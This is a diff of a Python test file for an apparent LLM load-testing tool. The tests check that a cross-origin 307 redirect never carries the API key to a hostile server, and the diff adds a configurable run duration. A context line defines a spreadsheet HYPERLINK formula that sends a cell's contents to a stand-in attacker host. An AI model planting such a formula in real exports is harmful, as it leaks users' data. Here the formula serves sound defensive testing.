@@ -15,9 +15,9 @@ KEY = "sk-load-redirect-41a0"
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
 
 
-def _run(tmp, host: str, *extra: str) -> list[dict]:
-    proc = runs.start(tmp, host, "--headless", "-u", "2", "-r", "2", "-t", "3s", "--metrics-url", "off",
-                      "--api-key", KEY, *extra)
+def _run(tmp, host: str, *extra: str, seconds: int = 3) -> list[dict]:
+    proc = runs.start(tmp, host, "--headless", "-u", "2", "-r", "2", "-t", f"{seconds}s", "--metrics-url",
+                      "off", "--api-key", KEY, *extra)
     out, _ = proc.communicate(timeout=120)
     assert "Traceback" not in out, out[-3000:]
     with (tmp / "run_requests.csv").open(newline="") as f:
@@ -29,7 +29,7 @@ def test_a_redirected_request_never_takes_the_key_to_another_origin(hostile, tmp
     thief = hostile({"/v1/chat/completions": chat_stream()})
     to_thief = redirect(thief.url + "/v1/chat/completions", 307)
     liar = hostile({"/v1/models": models(), "/v1/chat/completions": to_thief})
-    rows = _run(tmp_path, liar.url, "--client", client)
+    rows = _run(tmp_path, liar.url, "--client", client, seconds=8)  # the SDK takes seconds to import
     assert rows and len(liar.requests_to("/v1/chat/completions")) >= len(rows) >= 1
     if client == "fast":  # never followed: the redirect is the request's failure
         assert {r["error"].split(":")[0] for r in rows} - {"interrupted"} == {"http_307"}
